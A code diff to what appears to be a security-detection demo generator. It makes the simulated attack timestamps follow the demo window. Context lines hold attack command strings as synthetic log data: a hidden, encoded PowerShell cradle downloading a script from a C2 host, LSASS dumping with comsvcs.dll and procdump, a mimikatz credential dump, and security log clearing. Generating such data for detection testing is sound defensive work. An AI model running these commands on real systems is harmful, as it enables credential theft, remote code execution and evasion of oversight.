@@ -27,7 +27,7 @@ from watchkeeper.demo.processes import Binary
 from watchkeeper.demo.security_events import LOGON_TYPE_NAMES, security_event_row
 from watchkeeper.demo.signins import signin_row
 from watchkeeper.demo.syslog import syslog_row
-from watchkeeper.demo.world import DOMAIN, DOMAIN_SID, Host, User, World
+from watchkeeper.demo.world import DEMO_END, DOMAIN, DOMAIN_SID, Host, User, World
 
 __all__ = ["ATTACKS", "Injection"]
 
@@ -116,9 +116,10 @@ def _injection(
     return Injection(record, tables)
 
 
-def _at(day: int, hour: int, minute: int, second: int = 0) -> datetime:
-    """A moment in December 2025, the last month of the demo window."""
-    return datetime(2025, 12, day, hour, minute, second, tzinfo=UTC)
+def _at(world: World, day: int, hour: int, minute: int, second: int = 0) -> datetime:
+    """A moment given as a day of December 2025 (the last month of the window that ends on
+    ``DEMO_END``), moved with the world's window when it ends elsewhere (by default: today)."""
+    return datetime(2025, 12, day, hour, minute, second, tzinfo=UTC) + (world.end - DEMO_END)
 
 
 def _service_account() -> User:
@@ -139,7 +140,7 @@ def ssh_brute_force(world: World) -> Injection:
     rows = [
         syslog_row(
             host,
-            _at(20, 23, 40) + timedelta(seconds=11 * i),
+            _at(world, 20, 23, 40) + timedelta(seconds=11 * i),
             "authpriv",
             "info",
             "sshd",
@@ -163,13 +164,15 @@ def brute_force_then_success(world: World) -> Injection:
         security_event_row(
             host,
             4625,
-            _at(21, 2, 10) + timedelta(seconds=14 * i),
+            _at(world, 21, 2, 10) + timedelta(seconds=14 * i),
             **_logon(guesses[i % len(guesses)], 3, **failure),
         )
         for i in range(60)
     ]
     rows.append(
-        security_event_row(host, 4624, _at(21, 2, 25, 13), **_logon(victim.sam, 10, TargetUserSid=victim.sid))
+        security_event_row(
+            host, 4624, _at(world, 21, 2, 25, 13), **_logon(victim.sam, 10, TargetUserSid=victim.sid)
+        )
     )
     expect = {"IpAddress": [INTRUDER_IP], "Computer": [host.fqdn], "Account": [victim.account]}
     description = (
@@ -211,13 +214,13 @@ def password_spray(world: World) -> Injection:
     rng = world.rng("attack:password-spray")
     chosen = rng.choice(len(world.users), size=min(150, len(world.users)), replace=False)
     targets = [world.users[int(i)] for i in chosen]
-    start = _at(14, 3, 5)
+    start = _at(world, 14, 3, 5)
     rows = [
         signin_row(user, start + timedelta(seconds=19 * i), SPRAYER_IP, result="50126", **_SPRAY_CLIENT)
         for i, user in enumerate(targets)
     ]
     fallen = targets[-1]
-    rows.append(signin_row(fallen, _at(14, 3, 53, 40), SPRAYER_IP, **_SPRAY_CLIENT))
+    rows.append(signin_row(fallen, _at(world, 14, 3, 53, 40), SPRAYER_IP, **_SPRAY_CLIENT))
     description = (
         f"{len(targets)} accounts tried from {SPRAYER_IP} with ResultType 50126 in under an hour; "
         f"{fallen.upn} then signs in successfully from the same address."
@@ -240,7 +243,7 @@ def encoded_powershell(world: World) -> Injection:
     script = f"IEX (New-Object Net.WebClient).DownloadString('https://{C2_HOST}/a.ps1')"
     command = f"powershell.exe -nop -w hidden -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
     document = f'"{_WINWORD.path}" /n "C:\\Users\\{user.sam}\\Downloads\\Invoice-2025-1187.docm"'
-    opened, started = _at(27, 10, 13, 40), _at(27, 10, 14, 7)
+    opened, started = _at(world, 27, 10, 13, 40), _at(world, 27, 10, 14, 7)
     tables = {
         "DeviceProcessEvents": [
             process_event_row(host, user, opened, _WINWORD, document, _OUTLOOK, f'"{_OUTLOOK.path}"'),
@@ -280,7 +283,7 @@ def credential_dumping(world: World) -> Injection:
         _Launch(
             workstation,
             user,
-            _at(27, 10, 31, 55),
+            _at(world, 27, 10, 31, 55),
             Binary("rundll32.exe", _SYSTEM32),
             _POWERSHELL,
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\d.dmp full",
@@ -288,7 +291,7 @@ def credential_dumping(world: World) -> Injection:
         _Launch(
             server,
             service,
-            _at(21, 2, 38, 10),
+            _at(world, 21, 2, 38, 10),
             Binary("procdump64.exe", _TEMP),
             _CMD,
             f"procdump64.exe -accepteula -ma lsass.exe {_TEMP}\\lsass.dmp",
@@ -296,7 +299,7 @@ def credential_dumping(world: World) -> Injection:
         _Launch(
             server,
             service,
-            _at(21, 2, 41, 2),
+            _at(world, 21, 2, 41, 2),
             Binary("mimikatz.exe", _TEMP),
             _CMD,
             'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
@@ -349,7 +352,7 @@ def audit_log_clear(world: World) -> Injection:
     """``wevtutil cl Security`` on the brute-forced server, and the 1102 event it leaves behind."""
     host, service = world.server("SRV-APP01"), _service_account()
     when, command, wevtutil = (
-        _at(21, 2, 52, 30),
+        _at(world, 21, 2, 52, 30),
         "wevtutil.exe cl Security",
         Binary("wevtutil.exe", _SYSTEM32),
     )
